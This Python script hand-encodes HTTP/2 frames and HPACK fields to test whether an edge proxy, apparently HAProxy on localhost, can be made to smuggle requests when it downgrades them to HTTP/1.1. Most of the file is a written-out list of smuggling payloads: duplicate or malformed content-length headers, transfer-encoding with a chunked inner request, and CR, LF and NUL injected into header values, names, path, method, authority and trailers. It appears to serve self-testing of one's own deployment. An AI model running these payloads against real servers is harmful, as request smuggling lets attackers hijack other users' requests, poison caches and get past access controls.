"""Requests by HTTP/2 that would be two, or another one, where an edge writes them as HTTP/1.1 without looking.

    http2-smuggling.py PORT CERTIFICATE < REQUEST

REQUEST is an HTTP/1.1 request, with `{}` where it is to say the number of the attempt. Each attempt has a connection of its own to
localhost. Prints a line for each: its number, what came of it (a status, `reset`, `closed` or `silence`), its name.

Written by hand, as no library sends such things: RFC 9113 frames, RFC 7541 literals without Huffman's code.
"""
import socket
import ssl
import struct
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1
# What RFC 7541's static table has for :status.
STATUSES = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream) + payload


def string(text):
    data = text.encode('latin1')
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, length = len(data) - 127, b'\x7f'
    while rest >= 128:
        length, rest = length + bytes([rest % 128 + 128]), rest // 128
    return length + bytes([rest]) + data


def block(fields):
    """Literals that nobody keeps, with names in full (RFC 7541 §6.2.3)."""
    return b''.join(b'\x10' + string(name) + string(value) for name, value in fields)


def status(block):
    """The first field of an answer is its status; of HAProxy's always in one of these forms."""
    while block and block[0] & 0xe0 == 0x20:  # the table's size changes
        block = block[1:]
    if block[0] & 0x80:
        return STATUSES.get(block[0] & 0x7f, 'unknown')
    return int(block[2:5]) if block[1] == 3 else 'unknown'


def attempt(port, context, fields, body, trailers):
    with socket.create_connection(('localhost', port), timeout=15) as plain, context.wrap_socket(plain, server_hostname='localhost') as tls:
        assert tls.selected_alpn_protocol() == 'h2'
        request = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0)
        request += frame(HEADERS, END_HEADERS | (END_STREAM if body is None and trailers is None else 0), 1, block(fields))
        if body is not None:
            request += frame(DATA, END_STREAM if trailers is None else 0, 1, body.encode('latin1'))
        if trailers is not None:
            request += frame(HEADERS, END_HEADERS | END_STREAM, 1, block(trailers))
        received, outcome = b'', None
        try:
            tls.sendall(request)
            while outcome is None:
                while len(received) >= 9 and len(received) >= 9 + (length := int.from_bytes(received[:3], 'big')):
                    kind, flags, stream = struct.unpack('>BBI', received[3:9])
                    payload, received = received[9:9 + length], received[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        tls.sendall(frame(SETTINGS, ACK, 0))
                    if kind == HEADERS and outcome is None:
                        outcome = str(status(payload))
                    if kind in (RST_STREAM, GOAWAY) and outcome is None:
                        outcome = 'reset'
                if outcome is None:
                    more = tls.recv(65536)
                    if not more:
                        return 'closed'
                    received += more
        except TimeoutError:
            return 'silence'
        except OSError:
            return outcome or 'closed'
        return outcome


def attempts(inner):
    """Name, header fields, body, trailers."""
    def post(*more, path='/api/v1/agents/login', method='POST', authority='localhost'):
        return [(':method', method), (':scheme', 'https'), (':path', path), (':authority', authority), ('content-type', 'application/json'), *more]

    def get(*more, **changes):
        return post(*more, method='GET', **changes)

    chunked = f'0\r\n\r\n{inner}'
    head, _, _ = inner.partition('\r\n\r\n')
    # These are as they should be, and are answered.
    yield 'nothing', post(), '{}', None
    yield 'nothing, with trailers', post(), '{}', [('x-a', 'b')]
    yield 'transfer-encoding', post(('transfer-encoding', 'chunked')), chunked, None
    yield 'transfer-encoding and content-length', post(('transfer-encoding', 'chunked'), ('content-length', str(len(chunked)))), chunked, None
    yield 'content-length is too small', post(('content-length', '0')), inner, None
    yield 'content-length is too large', post(('content-length', str(len(inner) + 10))), inner, None
    yield 'two content-lengths', post(('content-length', '0'), ('content-length', str(len(inner)))), inner, None
    yield 'content-length with a sign', post(('content-length', f'+{len(inner)}')), inner, None
    yield 'content-length of 2^64', post(('content-length', str(1 << 64))), inner, None
    yield 'a list of content-lengths', post(('content-length', f'0, {len(inner)}')), inner, None
    for name, end in (('CR LF', '\r\n'), ('LF', '\n'), ('CR', '\r'), ('NUL', '\0')):
        yield f'{name} in a value', post(('x-a', f'b{end}Transfer-Encoding: chunked')), chunked, None
        yield f'{name} in a name', post((f'x-a: b{end}transfer-encoding', 'chunked')), chunked, None
        yield f'{name} in the path', get(path=f'/health HTTP/1.1{end}Host: a{end}{end}{head}{end}X-B: '), None, None
        yield f'{name} in the method', post(method=f'GET /health HTTP/1.1{end}Host: a{end}{end}{inner}{end}GET'), None, None
        yield f'{name} in the authority', get(authority=f'a{end}{end}{head}{end}X-B: '), None, None
    yield 'a colon in a name', post(('transfer-encoding: chunked', 'b')), chunked, None
    yield 'a colon at the end of a name', post(('transfer-encoding:', 'chunked')), chunked, None
    yield 'a space in a name', post(('transfer-encoding ', 'chunked')), chunked, None
    yield 'capitals in a name', post(('Transfer-Encoding', 'chunked')), chunked, None
    yield 'an empty name', post(('', 'chunked')), chunked, None
    yield 'a space in the path', get(path='/health HTTP/1.1 /'), None, None
    yield 'no slash in the path', get(path='health'), None, None
    yield 'an empty path', get(path=''), None, None
    yield 'two paths', get((':path', '/api/v1/nothing')), None, None
    yield 'two methods', get((':method', 'POST')), None, None
    yield 'a pseudo-header behind others', [*get()[1:], (':method', 'GET')], None, None
    yield 'an unknown pseudo-header', get((':smuggled', 'yes')), None, None
    yield 'no path', [field for field in get() if field[0] != ':path'], None, None
    yield 'no method', get()[1:], None, None
    yield 'a response', [(':status', '200')], None, None
    yield 'an odd scheme', [(name, 'https://a HTTP/1.1\r\n' if name == ':scheme' else value) for name, value in get()], None, None
    yield 'upgrade', get(('connection', 'upgrade'), ('upgrade', 'websocket')), None, None
    yield 'te', post(('te', 'chunked')), chunked, None
    yield 'another host', get(('host', f'a\r\n\r\n{head}')), None, None
    yield 'CONNECT', [(':method', 'CONNECT'), (':authority', 'localhost')], None, None
    yield 'CONNECT for another protocol', post((':protocol', 'http'), method='CONNECT'), inner, None
    yield 'transfer-encoding in trailers', post(), '{}', [('transfer-encoding', 'chunked')]
    yield 'content-length in trailers', post(), '{}', [('content-length', '0')]
    yield 'CR LF in trailers', post(), '{}', [('x-a', f'b\r\n\r\n{inner}')]
    yield 'a pseudo-header in trailers', post(), '{}', [(':path', '/health')]


def main(port, certificate):
    inner = sys.stdin.buffer.read().decode('latin1')
    context = ssl.create_default_context(cafile=certificate)
    context.set_alpn_protocols(['h2'])
    number = 0
    while True:
        every = list(attempts(inner.replace('{}', str(number + 1))))
        if number == len(every):
            return
        name, *request = every[number]
        number += 1
        print(number, attempt(port, context, *request), name, flush=True)


main(int(sys.argv[1]), sys.argv[2])
